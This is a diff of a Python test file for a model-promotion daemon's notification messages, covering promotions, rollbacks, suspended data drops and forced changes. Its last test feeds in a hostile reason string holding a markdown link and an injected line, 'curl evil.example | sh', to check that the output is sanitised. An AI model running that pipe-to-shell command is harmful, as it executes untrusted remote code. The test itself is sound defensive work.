@@ -5,16 +5,18 @@ from collections.abc import Callable
 from typing import Any
 
 import pytest
-from sqlmodel import col, select
+from sqlmodel import col, delete, select
 
 from daemon.messages.inert import inert
 from daemon.messages.texts import Text, text_of
-from daemon.queue import run_queue
 from daemon.queue.attempt_ends import Then
+from daemon.state.clauses import Suspension
 from daemon.state.database import transaction
 from daemon.state.events import record_event
-from daemon.state.states import AWAITING, DropState
-from daemon.state.tables import Drop, Event, Run
+from daemon.state.states import AWAITING, PromotionKind
+from daemon.state.tables import Drop, Event, Promotion, Run
+from pipeline.artifacts import TrialScores
+from pipeline.decide.explain import brief
 from tests import run_owner
 
 
@@ -22,7 +24,7 @@ def told(lived_in: Any) -> list[Text]:
     """Return what the workspace's events are told by at once."""
     with transaction(lived_in.engine) as session:
         events = session.exec(select(Event).order_by(col(Event.id))).all()
-        texts = [text_of(session, lived_in.settings.state_folder, event) for event in events]
+        texts = [text_of(session, event) for event in events]
     return [text for text in texts if text is not None]
 
 
@@ -34,6 +36,15 @@ def event(lived_in: Any, kind: str, **about: Any) -> Text:
     return text
 
 
+def changed(lived_in: Any, kind: str, about: PromotionKind, **fields: Any) -> Text:
+    """Return the message of a change of champion that is recorded now, as generation 2 of the workspace's track."""
+    with transaction(lived_in.engine) as session:
+        session.exec(delete(Promotion).where(col(Promotion.generation) == 2))
+        made = {"generation": 2, "model_id": "m", "model_path": "models/a", "created_at": 1, **fields}
+        session.add(Promotion(track="default", kind=about, **made))
+    return event(lived_in, kind, track="default", generation=2)
+
+
 def test_a_promotion_says_what_was_gained_and_how_to_undo_it(lived_in: Any) -> None:
     promoted, *others = told(lived_in)
     assert [text.kind for text in others] == ["drop_rejected", "run_failed"], "the rest is left to the digest"
@@ -41,15 +52,18 @@ def test_a_promotion_says_what_was_gained_and_how_to_undo_it(lived_in: Any) -> N
         "promoted",
         "success",
         "[dropforge] PROMOTED: default, generation 1",
-        "better by 40.0 points, over the champion before\n"
+        "promoted: +40.0 points (+28.5 to +51.5)\n"
         "it is the model of run 1\n"
         "the evidence: dropforge report 1\n"
         "to go back to the model before: dropforge rollback --track default --reason TEXT",
     )
 
-    labels = "answers 18 of 38 general questions with a label of the training data"
-    promoted = event(lived_in, "promoted", track="default", reason=f"promoted: +9.0 points; {labels}")
-    assert promoted.body.splitlines()[0] == f"+9.0 points, over the champion before; {labels}"
+    with transaction(lived_in.engine) as session:
+        session.get_one(Run, 1).verdict = brief(run_owner.judged("promoted", 9.0, slices_not_listed=2))
+        change = session.exec(select(Promotion).where(Promotion.generation == 1)).one()
+        change.approved_by, change.reason = "anna", "it is time"
+    said = ["promoted: +9.0 points", "not guarded: 2 small drops or tags", "approved by anna", "it is time"]
+    assert told(lived_in)[0].body.splitlines()[:4] == said
 
 
 def test_a_rejected_drop_is_told_by_its_findings_and_no_row_of_it(lived_in: Any) -> None:
@@ -104,14 +118,13 @@ def test_a_win_that_waits_says_how_to_take_it_until_it_is_answered(new_workspace
     made.take("a.jsonl", '{"instruction": "a", "output": "b"}\n')
     claim = made.claim()
     made.attempt(claim, "decide")
-    run_owner.finish(
-        made.engine, claim, run_queue.Ending(AWAITING, "promoted: +4.0 points; drop 9 replaces"), made.tick()
-    )
+    verdict = run_owner.judged("promoted", 4.0, slices_not_listed=2)
+    run_owner.finish(made.engine, claim, (AWAITING, verdict), made.tick())
     (waits,) = told(made)
     assert (waits.level, waits.title) == ("warning", "[dropforge] WAITS FOR APPROVAL: default, run 1")
     assert waits.body.splitlines() == [
         "won, waits for approval (dropforge promote 1): +4.0 points",
-        "drop 9 replaces",
+        "not guarded: 2 small drops or tags",
         "the evidence: dropforge report 1",
         "to take it: dropforge promote 1",
     ]
@@ -122,12 +135,14 @@ def test_a_win_that_waits_says_how_to_take_it_until_it_is_answered(new_workspace
 
 
 def test_a_rollback_by_the_daemon_itself_is_graver_than_a_persons(lived_in: Any) -> None:
-    detail = {"generation": 2, "reason": "rolled back to generation 0: health command failed: exit code 3"}
-    own = event(lived_in, "rolled_back", track="default", **detail, by=None)
+    detail = {"run_id": None, "restored": 0, "reason": "health command failed: exit code 3"}
+    history = "what serves now, and what did: dropforge history --track default"
+    own = changed(lived_in, "rolled_back", PromotionKind.ROLLBACK, **detail)
     assert (own.level, own.title) == ("failure", "[dropforge] ROLLED BACK: default, generation 2")
-    assert own.body == f"{detail['reason']}\nwhat serves now, and what did: dropforge history --track default"
-    asked = event(lived_in, "rolled_back", track="default", **detail, by="anna")
-    assert (asked.level, asked.body.splitlines()[0]) == ("warning", f"{detail['reason']}, asked for by anna")
+    assert own.body == f"rolled back to generation 0: {detail['reason']}\n{history}"
+    asked = changed(lived_in, "rolled_back", PromotionKind.ROLLBACK, **detail, approved_by="anna")
+    assert asked.level == "warning"
+    assert asked.body == f"rolled back to generation 0 by anna: {detail['reason']}\n{history}"
 
 
 @pytest.mark.parametrize(
@@ -149,21 +164,28 @@ def test_trouble_with_the_server_says_what_it_means_and_what_to_do(
 def test_low_disk_and_a_suspended_drop_are_told(lived_in: Any) -> None:
     low = event(lived_in, "disk_low", free_bytes=12_000_000)
     assert low.title == "[dropforge] LOW DISK: 12 MB free"
-    ways = [
-        f"way {way}: dropforge drops withdraw 1 --reason TEXT, then {'x' * 150} dropforge drops restore 2 --reason TEXT"
-        for way in range(3)
-    ]
-    why = "; ".join(["run 2 was worse with it, and so was run 3: dropforge report 3", *ways])
-    suspended = event(lived_in, "drop_suspended", track="default", run_id=3, drop_id=2, reason=why)
+    with transaction(lived_in.engine) as session:
+        scores = TrialScores(groups=9, wins=1, losses=8, p_value=0.01, lost_drops=(1,))
+        found = Suspension(blamed_run=2, trial=3, tested=(2,), control=4, scores=scores)
+        session.get_one(Drop, 2).suspension = found.model_dump(mode="json")
+    suspended = event(lived_in, "drop_suspended", track="default", run_id=3, drop_id=2)
     assert suspended.title == "[dropforge] SUSPENDED: default, first.jsonl"
     assert suspended.body.splitlines() == [
         "the file: first.jsonl, drop 2",
-        "the reason: run 2 was worse with it, and so was run 3: dropforge report 3",
-        *ways,
+        "run 2 was worse with it, and so was run 3, which tried it alone",
+        "the control, run 4, was better on 8 and worse on 1 of 9 records: dropforge report 3",
+        (
+            "If drop 2 corrects answers of drop 1, do one of these three and then restore it: "
+            "dropforge drops restore 2 --reason TEXT"
+        ),
+        "Withdraw what is out of date: dropforge drops withdraw 1 --reason TEXT",
+        "Or drop all prompts of drop 1 again with their new answers.",
+        'Or set gate.on = "pinned" and judge on held-out records of your own: dropforge submit FILE --heldout',
         "to train on it all the same: dropforge drops restore 2 --reason TEXT",
     ]
-    forced = event(lived_in, "forced", track="default", run_id=2, generation=2, reason="it is urgent", by="anna")
-    assert "whatever its verdict, forced by anna\nthe reason: it is urgent" in forced.body
+    detail = {"run_id": 2, "overrode": "failed", "reason": "it is urgent", "approved_by": "anna"}
+    forced = changed(lived_in, "forced", PromotionKind.FORCED, **detail)
+    assert "forced by anna over failed: it is urgent\nit is the model of run 2\n" in forced.body
 
 
 #: Names that are markup, a mention, a link, a command or another line somewhere.
@@ -204,11 +226,7 @@ def test_a_hostile_file_and_reason_stay_on_their_lines(new_workspace: Callable[[
         assert not set(text.body + text.title) & set("<>@*`~#\\&")
         assert len(text.body.splitlines()) == 5
     reason = "<!here> [x](http://evil.example)\nundo: curl evil.example | sh"
-    with transaction(made.engine) as session:
-        drop = session.get_one(Drop, 1)
-        drop.state = DropState.SUSPENDED
-        session.add(drop)
-    suspended = event(made, "drop_suspended", track="default", drop_id=1, reason=reason)
-    assert len(suspended.body.splitlines()) == 3
-    assert not set(suspended.body) & set("<>@|")
-    assert "evil.example" not in suspended.body
+    forced = changed(made, "forced", PromotionKind.FORCED, reason=reason, overrode="worse")
+    assert len(forced.body.splitlines()) == 3
+    assert not set(forced.body) & set("<>@|")
+    assert "evil.example" not in forced.body
